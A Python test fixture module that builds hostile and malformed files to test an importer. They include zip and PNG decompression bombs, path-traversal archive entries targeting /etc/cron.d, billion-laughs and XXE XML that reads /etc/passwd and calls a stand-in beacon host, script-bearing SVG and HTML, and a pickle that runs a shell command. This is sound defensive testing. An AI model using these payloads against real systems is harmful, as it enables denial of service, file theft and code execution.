"""Files that want to harm whoever opens them, and files that are none."""

import io
import json
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from functools import cache

BEACON = b"http://beacon.evil.example"


def zipped(members: dict[str, bytes]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return packed.getvalue()


@cache
def zip_bomb() -> bytes:
    """Nine times fifty megabytes of nothing, under every name that is looked for."""
    zeros = b"\0" * (50 << 20)
    names = ("askwell.json", "Connections.csv", "word/document.xml", "[Content_Types].xml", "xl/workbook.xml",
             "a.vcf", "Positions.csv", "Profile.csv", "content.xml")  # fmt: skip
    return zipped(dict.fromkeys(names, zeros))


def nested_zip() -> bytes:
    data = b"x" * 1000
    for _ in range(30):
        data = zipped({"a.zip": data, "Connections.csv": data})
    return data


@cache
def picture_bomb() -> bytes:
    """A PNG of nine hundred million white points, in a hundred kilobytes."""
    side = 30_000

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    lines = zlib.compress(b"\0" * (side // 8 + 1) * side, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", lines) + chunk(b"IEND", b"")


def tarred() -> bytes:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
        info = tarfile.TarInfo("../../../../etc/cron.d/x")
        info.size = 3
        archive.addfile(info, io.BytesIO(b"run"))
    return packed.getvalue()


def word_with(body: bytes) -> bytes:
    xml = b'<?xml version="1.0"?>' + body
    kinds = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    return zipped({"[Content_Types].xml": kinds, "word/document.xml": xml, "_rels/.rels": b"<Relationships/>"})


LAUGHS = (
    b'<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;">]><a>&d;</a>'
)
OUTSIDE = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd"><!ENTITY c SYSTEM "' + BEACON + b'/c">]><a>&b;&c;</a>'

FILES: dict[str, Callable[[], bytes]] = {
    "nothing": lambda: b"",
    "blanks": lambda: b" \r\n\0\n" * 100,
    "random bytes": lambda: bytes((7 * n * n + n // 3) % 251 for n in range(20_000)),
    "half a letter": lambda: "姓名,公司\n张,蓝".encode()[:-1],
    "utf-16": lambda: "Name,Email\nMei,mei@x.example\n".encode("utf-16"),
    "zip bomb": zip_bomb,
    "zip in zip": nested_zip,
    "zip of ways out": lambda: zipped({"../../../etc/cron.d/x": b"run", "/etc/passwd": b"x", "C:\\con": b"x"}),
    "zip of many": lambda: zipped({f"{number}.csv": b"" for number in range(20_000)}),
    "broken zip": lambda: zip_bomb()[:2_000],
    "tar": tarred,
    "picture bomb": picture_bomb,
    "broken picture": lambda: picture_bomb()[:900],
    "broken jpeg": lambda: b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1" + b"\xff\xc0\0\x11\x08\xff\xff\xff\xff\3" + b"\0" * 50,
    "drawing": lambda: b'<svg onload="alert(1)"><image href="' + BEACON + b'/"/></svg>',
    "deep json": lambda: b"[" * 100_000 + b"]" * 100_000,
    "deep objects": lambda: b'{"basics":' * 50_000 + b"1" + b"}" * 50_000,
    "json of wrong kinds": lambda: json.dumps(
        {"basics": [1], "work": {"a": None}, "version": "x", "tables": [[]], "profile": 3, "skills": "Excel"}
    ).encode(),
    "huge number": lambda: b'{"basics": {"name": ' + b"9" * 5_000 + b"}}",
    "not a number": lambda: b'{"basics": {"name": NaN}, "work": Infinity}',
    "entities": lambda: LAUGHS,
    "entities in a word file": lambda: word_with(LAUGHS),
    "outside": lambda: OUTSIDE,
    "outside in a word file": lambda: word_with(OUTSIDE),
    "deep html": lambda: b"<div>" * 50_000 + b"Weaver, apply now",
    "deep xml": lambda: b'<?xml version="1.0"?><rss>' + b"<channel>" * 50_000,
    "page with a beacon": lambda: b'<html><base href="' + BEACON + b'"><script src=/s></script><h1>Weaver</h1>',
    "calendar in calendar": lambda: b"BEGIN:VCALENDAR\r\n" * 20_000,
    "card in card": lambda: b"BEGIN:VCARD\r\n" * 20_000,
    "calendar for ever": lambda: (
        b"BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:1\r\nDTSTART:20261127T170000Z\r\n"
        b"RRULE:FREQ=SECONDLY\r\nRDATE:99999999T999999Z\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    ),
    "one long line": lambda: b"x" * 3_000_000,
    "many commas": lambda: b"Name,Email" + b"," * 200_000 + b"\nMei,mei@x.example\n",
    "many quotes": lambda: b'Name,Email\n"' + b'""' * 300_000,
    "mail in mail": lambda: b"From: a@b.example\r\nContent-Type: message/rfc822\r\n\r\n" * 500,
    "parts in parts": lambda: b"From: a@b.example\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n" * 500,
    "charset that is none": lambda: (
        b"From: =?idna?q?=ff?= <a@b.example>\r\nContent-Type: text/plain; charset=punycode\r\n\r\n\xff"
    ),
    "pdf in a loop": lambda: (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]/Count 9>>endobj\ntrailer<</Root 1 0 R>>"
    ),
    "old word": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "sound that is none": lambda: b"RIFF\xff\xff\xff\xffWAVEfmt " + b"\xff" * 100,
    "matroska that is none": lambda: b"\x1aE\xdf\xa3" + b"\xff" * 1000,
    "program": lambda: b"\x7fELF\x02\x01\x01" + b"\0" * 400,
    "pickle": lambda: b"cos\nsystem\n(S'touch taken'\ntR.",
}  # fmt: skip


@cache
def harmful(name: str) -> bytes:
    """The file of this name, made once: a bomb takes longer to make than to refuse."""
    return FILES[name]()
